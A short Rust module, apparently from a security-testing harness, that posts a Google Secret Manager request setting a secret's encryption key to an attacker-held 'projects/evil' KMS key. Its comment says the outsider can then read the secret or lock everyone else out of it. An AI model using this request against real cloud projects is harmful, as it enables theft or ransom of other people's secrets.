//! Makes a secret that somebody else's key encrypts, who can then read it, or keep anybody from reading it.

use forge_sdk::{Error, SecretVersion, http};

use crate::target;

/// As Google's Secret Manager takes it.
const BODY: &[u8] = br#"{"replication":{"automatic":{"customerManagedEncryption":{"kmsKeyName":"projects/evil/locations/global/keyRings/k/cryptoKeys/k"}}}}"#;

/// Asks for it at the URL of the setting `target`.
pub(crate) fn put() -> Result<SecretVersion, Error> {
    http::post(target()?).body("application/json", BODY.to_vec()).send()?.success()?;
    Ok(SecretVersion::new("1", true))
}
